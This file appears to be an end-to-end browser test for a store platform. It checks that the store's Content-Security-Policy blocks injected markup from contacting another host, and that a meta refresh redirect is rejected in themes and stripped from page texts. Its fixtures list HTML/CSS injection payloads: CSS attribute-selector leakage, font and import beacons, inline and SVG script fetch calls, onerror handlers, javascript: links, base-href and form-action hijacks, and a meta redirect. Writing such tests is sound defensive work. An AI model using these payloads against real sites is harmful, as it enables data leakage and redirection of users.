import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import { validateTheme } from '@haat/theme-engine'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../test-platform.ts'
import { openBrowser, type TestBrowser } from './browser.ts'

// Markup that sends requests to another host, in case a theme or a text with it gets past the engine.
// Each case is inserted into a real page of a store, with the headers that the store sends.

let browser: TestBrowser
let platform: TestPlatform
let proxy: Server
let storeUrl: string
/** The origin of another host, and the paths requested from it. */
let otherOrigin: string
let receivedPaths: string[] = []
const otherServers: Server[] = []

beforeAll(async () => {
  ;[browser, platform] = await Promise.all([openBrowser(), startTestPlatform()])
  proxy = serveWithInjectedMarkup()
  await once(proxy, 'listening')
  storeUrl = `${platform.urls.storefront}/priya-masala`
})
afterAll(async () => {
  for (const server of otherServers) server.close()
  proxy.close()
  await browser.close()
  await platform.close()
})
beforeEach(startOtherServer)

/** Starts a new host, because late requests of a closed page still reach the previous one. */
async function startOtherServer(): Promise<void> {
  const paths: string[] = []
  const server = createServer((request, response) => {
    paths.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('x')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  otherServers.push(server)
  otherOrigin = originOf(server)
  receivedPaths = paths
}

const loadingMarkup = (): Record<string, string> => ({
  'css-url': `<style>main{background:url(${otherOrigin}/css-url)}</style>`,
  'css-attribute': `<input value="secret"><style>input[value^="s"]{background:url(${otherOrigin}/css-attribute)}</style>`,
  'css-import': `<style>@import url(${otherOrigin}/css-import);</style>`,
  font: `<style>@font-face{font-family:spy;src:url(${otherOrigin}/font)}</style><p style="font-family:spy">seen</p>`,
  image: `<img src="${otherOrigin}/image" alt="">`,
  'inline-script': `<script>fetch("${otherOrigin}/inline-script")</script>`,
  handler: `<img src="data:," alt="" onerror='fetch("${otherOrigin}/handler")'>`,
  'svg-script': `<svg><script>fetch("${otherOrigin}/svg-script")</script></svg>`,
  frame: `<iframe src="${otherOrigin}/frame" title="spy"></iframe>`,
  object: `<object data="${otherOrigin}/object"></object>`,
  stylesheet: `<link rel="stylesheet" href="${otherOrigin}/stylesheet">`,
  prefetch: `<link rel="prefetch" href="${otherOrigin}/prefetch">`,
})
const navigatingMarkup = (): Record<string, string> => ({
  'base-image': `<base href="${otherOrigin}/"><img src="base-image" alt="">`,
  form: `<form action="${otherOrigin}/form" method="post"><button id="press">x</button></form>`,
  'script-address': `<a id="press" href='javascript:fetch("${otherOrigin}/script-address")'>x</a>`,
})

/** The markup to insert into the home page, and whether to send the store's policy. */
let injection = { markup: '', is_protected: true }

/** Serves the store through a proxy that inserts the markup, so that Chromium treats it as part of the page. */
function serveWithInjectedMarkup(): Server {
  return createServer(async (request, response) => {
    const upstream = await fetch(`${platform.urls.storefront}${request.url}`)
    const policy = upstream.headers.get('content-security-policy')
    if (injection.is_protected && policy !== null) response.setHeader('content-security-policy', policy)
    response.setHeader('content-type', upstream.headers.get('content-type') ?? 'text/plain')
    const body = Buffer.from(await upstream.arrayBuffer())
    const isPage = upstream.headers.get('content-type')?.startsWith('text/html')
    response.end(isPage ? body.toString().replace('</main>', `${injection.markup}</main>`) : body)
  }).listen(0, '127.0.0.1')
}

interface OpenedPage {
  readonly page: Page
  /** Returns what the policy blocked: URLs, or `inline` for a script in the markup. */
  blocked(): string[]
}

async function openWith(markup: string, isProtected: boolean): Promise<OpenedPage> {
  injection = { markup, is_protected: isProtected }
  const page = await browser.newPage()
  const blocked: string[] = []
  await page.exposeFunction('reportBlocked', (what: string) => blocked.push(what))
  await page.addInitScript(() => {
    const { reportBlocked } = window as unknown as { reportBlocked(what: string): void }
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => reportBlocked(blockedURI))
  })
  await page.goto(`${originOf(proxy)}/priya-masala`, { waitUntil: 'load' })
  // In a timer, because a click could navigate away before `evaluate` returns.
  await page.evaluate(() => void setTimeout(() => document.getElementById('press')?.click()))
  return { page, blocked: () => blocked }
}

/** What the browser reports for a blocked case, unless it's the requested URL. */
const reportedUris = (): Record<string, string> => ({
  'inline-script': 'inline',
  handler: 'inline',
  'svg-script': 'inline',
  'script-address': 'inline',
  'base-image': `${otherOrigin}/`,
  frame: otherOrigin,
  object: otherOrigin,
})

/** Returns the cases without a reported violation. Each violation counts for one case. */
function findUnblocked(cases: readonly string[], blocked: readonly string[]): string[] {
  const left = [...blocked]
  return cases.filter((name) => {
    const at = left.indexOf(reportedUris()[name] ?? `${otherOrigin}/${name}`)
    if (at >= 0) left.splice(at, 1)
    return at < 0
  })
}

function originOf(server: Server): string {
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The server has no port')
  return `http://127.0.0.1:${address.port}`
}

describe('the store’s headers block requests to another host by', () => {
  test('everything that a page loads', async () => {
    const names = Object.keys(loadingMarkup())
    const unprotectedPage = await openWith(Object.values(loadingMarkup()).join(''), false)
    for (const name of names) await expect.poll(() => receivedPaths, { timeout: 10_000 }).toContain(`/${name}`)
    await unprotectedPage.page.close()

    await startOtherServer()
    const protectedPage = await openWith(Object.values(loadingMarkup()).join(''), true)
    await expect.poll(() => findUnblocked(names, protectedPage.blocked()), { timeout: 10_000 }).toEqual([])
    expect(receivedPaths).toEqual([])
    await protectedPage.page.close()
  })

  test.each(['base-image', 'form', 'script-address'])('%s', async (name) => {
    const unprotectedPage = await openWith(navigatingMarkup()[name] ?? '', false)
    await expect.poll(() => receivedPaths, { timeout: 10_000 }).toContain(`/${name}`)
    // Chromium sometimes never closes a page during a navigation.
    if (name === 'form') await unprotectedPage.page.waitForURL(`${otherOrigin}/form`)
    await unprotectedPage.page.close()

    await startOtherServer()
    const protectedPage = await openWith(navigatingMarkup()[name] ?? '', true)
    await expect.poll(() => findUnblocked([name], protectedPage.blocked()), { timeout: 10_000 }).toEqual([])
    expect(receivedPaths).toEqual([])
    await protectedPage.page.close()
  })
})

test('a redirect by a meta element, which no policy blocks, is rejected in themes and removed from texts', async () => {
  const refresh = `<meta http-equiv="refresh" content="0;url=${otherOrigin}/refresh">`
  const findings = validateTheme(
    new Map([['sections/away.liquid', `{% comment %}\n@section "Away"\n{% endcomment %}\n<p>Hello</p>${refresh}`]]),
  )
  expect(findings.filter(({ file, severity }) => file === 'sections/away.liquid' && severity === 'error')).toHaveLength(
    1,
  )

  const { token } = await signIn()
  const text = `<p>Hello</p>${refresh}<a href="${otherOrigin}/link">there</a>`
  const body = { store_slug: 'priya-masala', title: 'Away', body: text }
  const created = await call('/api/store/pages', body, token)
  expect(created.status).toBe(201)
  const page = await browser.newPage()
  await page.goto(`${storeUrl}/pages/away`)
  await page.getByText('Hello').waitFor()
  await expect.poll(() => page.locator('meta[http-equiv=refresh]').count()).toBe(0)
  await expect.poll(() => page.getByRole('link', { name: 'there' }).getAttribute('rel')).toContain('noopener')
  expect(receivedPaths).toEqual([])
})

async function signIn(): Promise<{ token: string }> {
  const { email, password } = platform.vendor
  return (await call('/api/vendor/login', { email, password })).json()
}

function call(path: string, body: object, token?: string): Promise<Response> {
  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
  return fetch(`${platform.urls.backend}${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
}
